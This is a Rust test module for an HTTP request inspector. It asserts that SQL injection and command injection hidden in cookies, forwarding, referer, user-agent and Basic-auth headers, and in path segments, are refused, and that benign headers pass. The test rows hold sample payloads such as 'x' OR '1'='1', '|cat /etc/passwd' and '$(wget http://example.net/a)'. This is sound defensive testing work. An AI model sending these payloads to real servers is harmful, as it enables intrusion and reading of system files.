//! What comes beside path and parameters: cookies, other headers, logins.

use super::*;

#[test]
fn an_attack_in_what_is_sent_along_is_refused() {
    let condition = "x' OR '1'='1";
    let rows = [
        ("a cookie", "Cookie", "id=x' OR '1'='1", "sqli.quoted-condition"),
        ("a cookie by the grammar", "Cookie", "id=x'||(select 1)||'", "sqli.grammar"),
        ("a command in a cookie", "Cookie", "lang=en|cat /etc/passwd", "command.chained-word"),
        ("a tool in a cookie", "Cookie", "lang=$(wget http://example.net/a)", "command.chained-tool"),
        ("JSON in a cookie", "Cookie", "a=%7B%22b%22:%22x' OR '1'%3D'1%22%7D", "sqli.quoted-condition"),
        ("the client's address", "X-Forwarded-For", condition, "sqli.quoted-condition"),
        ("a number there", "X-Forwarded-For", "1 or 1=1", "sqli.number-condition"),
        (
            "a command there",
            "X-Forwarded-For",
            "127.0.0.1; wget http://example.net/a",
            "command.chained-tool",
        ),
        ("the page before", "Referer", "https://example.net/?a=x' OR '1'='1", "sqli.quoted-condition"),
        ("a command there", "Referer", "https://example.net/x|cat /etc/passwd", "command.chained-word"),
        ("the agent", "User-Agent", condition, "sqli.quoted-condition"),
        ("a shell in the agent", "User-Agent", "x; /bin/bash -c id", "command.shell-path"),
        ("an expansion in the agent", "User-Agent", "x$(sleep 5)", "command.expansion"),
        ("a login", "Authorization", "Basic eCcgT1IgJzEnPScxOnB3", "sqli.quoted-condition"),
        ("a password", "authorization", "basic dTp4JyBPUiAnMSc9JzE=", "sqli.quoted-condition"),
    ];
    for (what, name, value, rule) in rows {
        let found = inspect("/", &[(name, value)], b"");
        assert!(refusing(&found).contains(&rule), "{what}: {:?}", found.findings);
    }
}

#[test]
fn an_attack_in_a_segment_of_the_path_is_refused() {
    for path in ["/item/1 or 1=1", "/item/1%20or%201=1/x", "/item/x'%20or%20'a'%3D'a", "/item/admin'--/x"] {
        let found = inspect(path, &[], b"");
        assert!(!refusing(&found).is_empty(), "{path}: {:?}", found.findings);
        assert!(found.findings.iter().all(|finding| finding.place == Place::Path), "{path}");
    }
}

#[test]
fn honest_headers_and_paths_are_let_through() {
    let headers = [
        ("Cookie", "prefs={\"a\":\"b\",\"c\":[1,2]}; user=id=5&uname=bob&lang=en; q=\"x y\"; name=O'Brien"),
        (
            "Cookie",
            "consent=isGpcEnabled%3D0%26datestamp%3DSat+Nov+28+2026+10%3A00%3A00+GMT%2B0100+(CET)%26version%3D1",
        ),
        ("Referer", "https://www.example.com/a?b=c&set&d=(e)&date=2026-11-28&q=rock+'n'+roll+or+'pop'"),
        (
            "User-Agent",
            "Mozilla/5.0 (compatible; Find Bot/1.0; +https://example.com/bot) and Version/4 (like curl)",
        ),
        ("X-Forwarded-For", "203.0.113.7, 198.51.100.1"),
        ("Forwarded", "for=203.0.113.7;host=www.example.com;proto=https"),
        ("X-Client-Info", "\"a\";v=\"1\"; os=linux; type=x; date=2026-11-28"),
        ("Authorization", "Basic dXNlcjpwYXNzJ3dvcmQ="),
        ("Authorization", "Basic not base64 at all"),
    ];
    for path in
        ["/files/Report (final) v2 - copy.pdf", "/wiki/Rock_'n'_Roll_(album)", "/o/O'Brien%20and%20D'Angelo"]
    {
        let found = inspect(path, &headers, b"");
        assert_eq!(refusing(&found), Vec::<&str>::new(), "{path}: {:?}", found.findings);
    }
}
